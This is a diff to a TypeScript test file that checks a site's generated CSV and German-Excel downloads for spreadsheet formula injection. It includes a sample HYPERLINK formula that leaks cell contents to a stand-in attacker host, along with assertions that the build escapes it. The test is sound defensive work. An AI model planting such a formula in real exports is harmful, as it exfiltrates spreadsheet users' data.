@@ -8,33 +8,13 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { startsLikeFormula, type Snapshot } from '@sdd/shared-types';
+import { parseCsv } from '../support/read-csv.ts';
 
 const siteRoot = resolve(import.meta.dirname, '..', '..');
 const BUILD = join(siteRoot, 'scripts', 'build.ts');
 const work = mkdtempSync(join(tmpdir(), 'sdd-downloads-'));
 const outDir = join(work, 'site');
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Quelle")';
-
-/** RFC 4180 rows (quotes, doubled quotes, CRLF), as a spreadsheet reads the file. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
-    else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-    } else cell += c;
-  }
-  return rows;
-}
 
 let kpiCode = '';
 
@@ -57,6 +37,7 @@ afterAll(() => rmSync(work, { recursive: true, force: true }));
 
 describe('CSV downloads from hostile texts', () => {
   const downloads = () => ['daten/kennzahlen.csv', ...readdirSync(join(outDir, 'kennzahlen')).filter((f) => f.endsWith('.csv')).map((f) => `kennzahlen/${f}`)];
+  const excelDownloads = () => ['daten/kennzahlen-excel.csv', ...readdirSync(join(outDir, 'daten', 'excel')).map((f) => `daten/excel/${f}`)];
 
   it('no cell of any CSV download starts like a formula', () => {
     const files = downloads();
@@ -65,6 +46,18 @@ describe('CSV downloads from hostile texts', () => {
       const rows = parseCsv(readFileSync(join(outDir, file), 'utf8').replace(/^\uFEFF/, ''));
       for (const [r, row] of rows.entries()) for (const [c, cell] of row.entries()) expect(startsLikeFormula(cell), `${file} row ${r + 1} column ${c + 1}: ${JSON.stringify(cell)}`).toBe(false);
     }
+  });
+
+  it('no cell of any German-Excel download starts like a formula, and -12.5 stays the number -12,5', () => {
+    const files = excelDownloads();
+    expect(files.length).toBeGreaterThan(5);
+    for (const file of files) {
+      const rows = parseCsv(readFileSync(join(outDir, file), 'utf8').replace(/^\uFEFF/, ''), ';');
+      for (const [r, row] of rows.entries()) for (const [c, cell] of row.entries()) expect(startsLikeFormula(cell), `${file} row ${r + 1} column ${c + 1}: ${JSON.stringify(cell)}`).toBe(false);
+    }
+    const [header, ...data] = parseCsv(readFileSync(join(outDir, 'daten', 'excel', `${kpiCode.toLowerCase()}.csv`), 'utf8').replace(/^\uFEFF/, ''), ';');
+    expect(data[3]![header!.indexOf('wert')]).toBe('-12,5');
+    expect(data[0]![header!.indexOf('anmerkung')]).toBe(`'${HYPERLINK}`);
   });
 
   it('keeps the texts readable (with a leading apostrophe) and numbers as numbers', () => {
